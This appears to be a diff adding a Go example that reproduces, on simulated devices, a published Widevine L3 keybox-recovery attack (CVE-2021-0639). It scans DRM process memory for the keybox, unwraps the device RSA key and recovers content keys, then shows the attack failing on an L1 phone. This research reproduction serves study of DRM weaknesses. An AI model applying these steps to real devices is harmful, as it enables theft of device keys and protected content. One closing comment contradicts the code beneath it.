@@ -1,0 +1,97 @@
+// Keybox recovery (CVE-2021-0639) walked through by hand: every rung of
+// the §IV-D ladder using the low-level packages directly, with the
+// corresponding paper step called out — and the same scan shown failing
+// against an L1 device.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"repro"
+	"repro/internal/attack"
+	"repro/internal/cenc"
+	"repro/internal/monitor"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run() error {
+	world, err := wideleak.NewWorld("keybox-recovery", nil)
+	if err != nil {
+		return err
+	}
+	fixture, err := world.Fixture("Showtime")
+	if err != nil {
+		return err
+	}
+
+	// --- The discontinued L3 phone ---
+	fmt.Println("=== Nexus 5 (Android 6.0.1, Widevine L3, CDM 3.1.0) ===")
+	mon := monitor.New()
+	mon.AttachCDM(fixture.Nexus5Device.Engine)
+	defer mon.Detach()
+	if r := fixture.Nexus5App.Play(wideleak.ContentID); !r.Played() {
+		return fmt.Errorf("playback failed: %+v", r)
+	}
+
+	// §IV-D: "By dynamically monitoring memory regions ... we searched for
+	// specific keybox structure (e.g., magic number)."
+	handle, err := mon.AttachProcess(fixture.Nexus5Device.DRMProcess)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("Attached to mediadrmserver: %d mapped regions.\n", len(handle.Regions()))
+	kb, err := attack.RecoverKeybox(handle)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("Keybox recovered: stableID=%q, 128-bit device key %x...\n",
+		kb.StableIDString(), kb.DeviceKey[:4])
+
+	// §IV-D: "Once we recovered the keybox, we were able to obtain the
+	// provisioned Device RSA Key."
+	rsaKey, err := attack.RecoverDeviceRSAKey(kb, fixture.Nexus5Device.Storage)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("Device RSA key unwrapped from flash: %d-bit modulus.\n", rsaKey.N.BitLen())
+
+	// §IV-D: "we mimic the rest of the key ladder by intercepting Widevine
+	// function arguments to recover derivation buffers and encrypted keys."
+	keys, err := attack.RecoverContentKeys(rsaKey, mon.Events())
+	if err != nil {
+		return err
+	}
+	fmt.Printf("Key ladder replayed: %d content keys recovered:\n", len(keys))
+	for kid := range keys {
+		fmt.Printf("  kid=%s\n", cenc.KIDToString(kid))
+	}
+
+	// --- The same attack against a TEE-backed L1 phone ---
+	fmt.Println("\n=== Pixel (TEE-backed Widevine L1, CDM 15.0) ===")
+	if r := fixture.PixelApp.Play(wideleak.ContentID); !r.Played() {
+		return fmt.Errorf("pixel playback failed: %+v", r)
+	}
+	l1Handle, err := mon.AttachProcess(fixture.PixelDevice.DRMProcess)
+	if err != nil {
+		return err
+	}
+	if _, err := attack.RecoverKeybox(l1Handle); err != nil {
+		fmt.Printf("Keybox scan: %v\n", err)
+		fmt.Println("The keybox never leaves the TEE — the L1 design resists the attack.")
+	} else {
+		return fmt.Errorf("unexpected: keybox found in L1 normal-world memory")
+	}
+
+	// Monitors also cannot reach into the app's own process.
+	if _, err := mon.AttachProcess(fixture.Nexus5App.Device().DRMProcess); err != nil {
+		return err
+	}
+	fmt.Println("\nConclusion: discontinued L3 phones are the ecosystem's weakest link (§IV-D).")
+	return nil
+}
